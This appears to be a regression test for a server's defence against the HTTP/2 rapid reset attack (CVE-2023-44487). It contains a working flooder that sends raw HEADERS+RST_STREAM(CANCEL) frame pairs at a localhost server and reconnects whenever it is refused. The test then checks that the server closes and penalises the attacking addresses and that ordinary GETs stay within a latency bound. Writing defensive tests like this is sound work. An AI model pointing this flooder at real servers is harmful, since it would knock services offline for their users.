#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487; Debian's libh2o 2.2.5 has no fix of its own), against a
release build: attacker processes open HTTP/2 connections (python3-h2 for the preface and
HPACK, raw frames after that) and send HEADERS + RST_STREAM(CANCEL) pairs as fast as they can
for 10 s from 127.0.0.9 and 127.0.0.10, reconnecting when the server closes a connection or refuses one.
The server closes a connection past 100 resets (33/s after that) and refuses its address for
30 s. The policy GET p99 of an ordinary sender (new TLS connection per GET) during the
attack stays within max(2 x quiet p99, quiet p99 + 10 ms) — the absolute floor keeps a quiet
figure of a few ms from making the bound meaningless on a shared machine. Server CPU and the
attack rate are printed."""
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostilelib as hl  # noqa: E402

st, il = hl.st, hl.il
ATTACK_S = 10.0
ATTACKERS = 2           # processes
CONNS_PER_ATTACKER = 2  # connections each, served in turn
PAIRS_PER_BATCH = 64
SOURCES = ["127.0.0.9", "127.0.0.10"]  # the attackers' addresses; the sender's is 127.0.0.1


def frame(ftype, flags, stream_id, payload):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream_id) + payload


def attack(port, cafile, seconds, source):
    """One attacker process: for `seconds`, HEADERS + RST_STREAM pairs on CONNS_PER_ATTACKER
    connections, reconnecting when the server closes one (as an attacker would). Prints
    'pairs=N connections=M closed_by_server=K'."""
    import h2.config
    import h2.connection
    import hpack
    # The attacker would run on its own machine; here it shares two cores with the server and
    # the probe. Niced, it still takes every cycle nobody else wants, but the figures measure
    # the server's cost of the attack rather than the test machine's scheduler.
    os.nice(5)
    ctx = ssl.create_default_context(cafile=cafile)
    ctx.set_alpn_protocols(["h2"])
    block = hpack.Encoder().encode([(":method", "GET"), (":scheme", "https"),
                                    (":authority", il.HOST),
                                    (":path", "/.well-known/mta-sts.txt")])
    stats = {"connections": 0, "closed": 0, "refused": 0}
    deadline = time.monotonic() + seconds

    def connect():
        while True:
            try:
                raw = socket.create_connection(("127.0.0.1", port), 10, (source, 0))
                s = ctx.wrap_socket(raw, server_hostname=il.HOST)
                break
            except OSError:  # refused: come back soon, as an attacker would
                stats["refused"] += 1
                time.sleep(0.01)
                if time.monotonic() > deadline:
                    return None
        assert s.selected_alpn_protocol() == "h2"
        h = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        h.initiate_connection()
        s.sendall(h.data_to_send())
        stats["connections"] += 1
        return [s, 1]

    conns = [connect() for _ in range(CONNS_PER_ATTACKER)]
    pairs = 0
    while time.monotonic() < deadline:
        for i, c in enumerate(conns):
            if c is None:
                conns[i] = connect()
                continue
            s, sid = c
            out = bytearray()
            for _ in range(PAIRS_PER_BATCH):
                out += frame(1, 0x5, sid, block)  # HEADERS, END_STREAM | END_HEADERS
                out += frame(3, 0, sid, struct.pack(">I", 8))  # RST_STREAM, CANCEL
                sid += 2
            c[1] = sid
            try:
                s.settimeout(5)
                s.sendall(out)
                pairs += PAIRS_PER_BATCH
                s.settimeout(0)
                while True:  # drain what the server sent (its write buffer must not fill)
                    if s.recv(262144) == b"":
                        raise ConnectionResetError("closed")
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
            except OSError:
                stats["closed"] += 1
                s.close()
                conns[i] = connect()
    print("pairs=%d connections=%d closed_by_server=%d refused=%d"
          % (pairs, stats["connections"], stats["closed"], stats["refused"]), flush=True)


def main(t):
    s = il.server(reports=hl.OPEN_INTAKE)
    pid = s.proc.pid
    probe = hl.GetProbe(s.port).start()
    time.sleep(5.0)
    quiet = probe.stop()
    q99 = hl.p99(quiet)
    t.diag("quiet: %s" % hl.summary(quiet))
    t.ok(quiet.count(None) == 0 and len(quiet) >= 50, "quiet GETs answer 200")

    c0 = hl.cpu_seconds(pid)
    procs = [subprocess.Popen([sys.executable, os.path.abspath(__file__), "attack", str(s.port),
                               il.ca().cert, str(ATTACK_S), SOURCES[k]],
                              stdout=subprocess.PIPE, text=True)
             for k in range(ATTACKERS)]
    time.sleep(0.5)  # connections up
    probe = hl.GetProbe(s.port).start()
    outs = [p.communicate(timeout=ATTACK_S + 30)[0] for p in procs]
    during = probe.stop()
    cpu = hl.cpu_seconds(pid) - c0
    pairs = closed = refused = 0
    for o in outs:
        for part in o.split():
            if part.startswith("pairs="):
                pairs += int(part[6:])
            if part.startswith("closed_by_server="):
                closed += int(part[17:])
            if part.startswith("refused="):
                refused += int(part[8:])
    a99 = hl.p99(during)
    bound = max(2 * q99, q99 + 0.010)
    t.diag("attack: %d HEADERS+RST_STREAM pairs in %.0f s (%.0f/s) on %d connections; "
           "attackers said %s" % (pairs, ATTACK_S, pairs / ATTACK_S, ATTACKERS * CONNS_PER_ATTACKER,
                                  [o.strip() for o in outs]))
    t.diag("during the attack: %s" % hl.summary(during))
    t.diag("server CPU during the attack: %.2f s in %.1f s" % (cpu, ATTACK_S + 0.5))
    t.ok(pairs > 100 and refused >= 100,
         "the attack ran: %d pairs sent, %d connection attempts refused" % (pairs, refused))
    t.ok(closed > 0, "the server closed attacking connections (%d times)" % closed)
    t.ok("event=conn.rapid_reset" in s.log(), "and logged it (conn.rapid_reset)")
    t.ok("reason=penalty" in s.log(),
         "then refused the attackers' addresses (conn.refused reason=penalty)")
    t.ok(during.count(None) == 0, "every GET during the attack answered 200 (failed: %d)"
         % during.count(None))
    t.ok(a99 <= bound, "GET p99 during the attack %.1f ms <= max(2 x quiet, quiet + 10 ms) = %.1f ms"
         % (a99 * 1000, bound * 1000))
    t.ok(s.proc.poll() is None, "the server is still running")
    t.is_(s.stop(), 0, "stops cleanly")


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "attack":
        attack(int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), sys.argv[5])
    else:
        st.Tap().run(main)
